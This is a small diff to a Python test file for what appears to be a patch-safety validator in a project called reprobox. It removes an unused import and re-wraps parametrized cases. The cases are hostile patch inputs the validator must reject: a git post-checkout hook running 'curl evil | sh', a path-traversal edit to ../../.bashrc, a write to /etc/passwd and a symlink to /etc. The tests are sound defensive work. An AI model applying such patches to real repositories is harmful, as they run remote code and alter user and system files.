@@ -23,7 +23,6 @@ from reprobox.model import (
     DvcOutput,
     Hardware,
     OutputFile,
-    Package,
     PackageSource,
     SystemPackage,
 )
@@ -422,10 +421,10 @@ def test_patch_targets_of_a_real_git_diff(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     ("patch", "reason"),
     [
-        ("diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\nnew file mode 100755\n"
-         "--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n", ".git"),
-        ("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n--- a/../../.bashrc\n+++ b/../../.bashrc\n"
-         "@@ -1 +1 @@\n-a\n+b\n", ".."),
+        (("diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\nnew file mode 100755\n"
+         "--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n"), ".git"),
+        (("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n--- a/../../.bashrc\n+++ b/../../.bashrc\n"
+         "@@ -1 +1 @@\n-a\n+b\n"), ".."),
         ("--- /etc/passwd\n+++ /etc/passwd\n@@ -1 +1 @@\n-a\n+b\n", "absolute"),
         ("diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+/etc\n",
          "symbolic link"),
